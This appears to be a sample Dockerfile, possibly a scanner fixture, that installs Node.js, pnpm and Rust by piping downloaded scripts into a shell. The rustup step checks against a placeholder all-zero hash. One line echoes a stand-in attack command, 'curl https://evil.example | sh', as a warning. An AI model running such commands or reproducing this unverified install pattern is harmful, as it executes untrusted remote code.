FROM ubuntu:22.04
ARG NODE_MAJOR=20
RUN apt-get update \
    && apt-get install -y --no-install-recommends curl ca-certificates gnupg \
    && curl -fsSL https://deb.nodesource.com/setup_${NODE_MAJOR}.x | bash - \
    && apt-get install -y nodejs \
    && rm -rf /var/lib/apt/lists/*
RUN wget -qO- https://get.pnpm.io/install.sh | ENV="$HOME/.bashrc" SHELL="$(which bash)" sh -
RUN curl -fsSLo /tmp/rustup.sh https://sh.rustup.rs \
    && echo "0000000000000000000000000000000000000000000000000000000000000000  /tmp/rustup.sh" | sha256sum -c - \
    && sh /tmp/rustup.sh -y
RUN echo "never run: curl https://evil.example | sh"
USER node
HEALTHCHECK CMD ["node", "-e", "process.exit(0)"]
CMD ["node", "server.js"]
